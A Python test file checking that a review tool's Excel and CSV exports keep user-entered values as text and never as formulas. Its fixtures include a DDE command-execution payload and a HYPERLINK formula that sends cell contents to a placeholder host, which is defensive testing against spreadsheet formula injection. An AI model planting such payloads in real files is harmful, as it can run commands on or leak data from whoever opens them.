"""Whatever a unit types stays text in the Excel export: no cell of ours becomes a formula."""

from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook

from assistant.checker.export import CheckedFile, to_xlsx
from assistant.model import Evaluation, FileInfo, Finding, Location, Submission

HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A2,"点击查看")'
DDE = "=cmd|' /C calc'!A0"


def _export() -> bytes:
    sub = Submission(id="s1", kind="table", unit=DDE, file=FileInfo(name="+1-form.xlsx"),
                     evaluations=[Evaluation(project_name=HYPERLINK)])
    finding = Finding(rule="MISSING-IND-001", severity="error", message="实际完成值为空",
                      location=Location(field="evaluations[0].indicators[0].actual"),
                      evidence="@SUM(1+1)", suggestion="-2+3")
    return to_xlsx([CheckedFile(source="+1-form.xlsx", submission=sub, findings=[finding])])


def test_no_formula_reaches_the_workbook():
    data = _export()
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 2
        for name in sheets:
            assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def test_the_text_is_kept_as_typed():
    wb = load_workbook(io.BytesIO(_export()))
    findings = [c.value for c in wb["审核发现"][2]]
    assert HYPERLINK in findings and "@SUM(1+1)" in findings and "-2+3" in findings
    summary = [c.value for c in wb["汇总"][2]]
    assert DDE in summary and "+1-form.xlsx" in summary
    assert all(c.data_type != "f" for sheet in wb for row in sheet.iter_rows() for c in row)


def test_csv_keeps_formulas_as_text_and_opens_in_excel():
    from assistant.checker.export import FINDING_COLUMNS, to_csv

    sub = Submission(id="s1", kind="table", unit=DDE, year=2023, file=FileInfo(name="+1-form.xlsx"),
                     evaluations=[Evaluation(project_name=HYPERLINK)])
    finding = Finding(rule="MISSING-IND-001", severity="error", message="实际完成值为空", evidence="@SUM(1+1)",
                      location=Location(field="evaluations[0].indicators[0].actual"))
    items = [CheckedFile(source="+1-form.xlsx", submission=sub, findings=[finding])]
    for sheet in ("findings", "submissions"):
        data = to_csv(items, sheet)
        assert data.startswith("\ufeff".encode()) and b"\r\n" in data  # UTF-8 with BOM, Excel's line ends
        import csv as csv_module

        rows = list(csv_module.reader(io.StringIO(data.decode("utf-8-sig"))))
        cells = [c for row in rows[1:] for c in row]
        assert not any(c.startswith(("=", "+", "-", "@")) for c in cells), cells
        assert f"'{DDE}" in cells and "2023" in cells
    header = list(csv_module.reader(io.StringIO(to_csv(items).decode("utf-8-sig"))))[0]
    assert header == [name for name, _ in FINDING_COLUMNS]


def test_workbook_columns_unit_year_decision_and_numbers():
    from assistant.checker.export import FINDING_COLUMNS, SUMMARY_COLUMNS

    sub = Submission(id="s1", kind="table", unit="某县教育局", year=2023, file=FileInfo(name="a.docx"),
                     evaluations=[Evaluation(project_name="校舍维修")])
    fp = Finding(rule="MISSING-IND-001", severity="error", message="空", id="f1", decision="false_positive",
                 decision_reason="表外已填")
    ok = Finding(rule="CALC-FUND-001", severity="warning", message="算错", id="f2")
    wb = load_workbook(io.BytesIO(to_xlsx([CheckedFile(source="s1", submission=sub, findings=[fp, ok],
                                                       review_state="in_review")])))
    findings, summary = wb["审核发现"], wb["汇总"]
    head = [c.value for c in findings[1]]
    assert head == [n for n, _ in FINDING_COLUMNS] and not any("." in h or "[" in h for h in head)
    row = dict(zip(head, [c.value for c in findings[2]], strict=True))
    assert row["单位"] == "某县教育局" and row["年度"] == 2023 and row["审核决定"] == "误报"
    assert row["决定理由"] == "表外已填"
    s = dict(zip([c.value for c in summary[1]], [c.value for c in summary[2]], strict=True))
    assert list(s) == [n for n, _ in SUMMARY_COLUMNS]
    assert s["审核状态"] == "审核中" and s["年度"] == 2023 and s["项目"] == "校舍维修"
    assert (s["错误"], s["警告"], s["误报"], s["待定"]) == (0, 1, 1, 1)  # a 误报 is not counted as an error
    assert isinstance(s["合计"], int) and findings.freeze_panes == "A2" and summary.auto_filter.ref
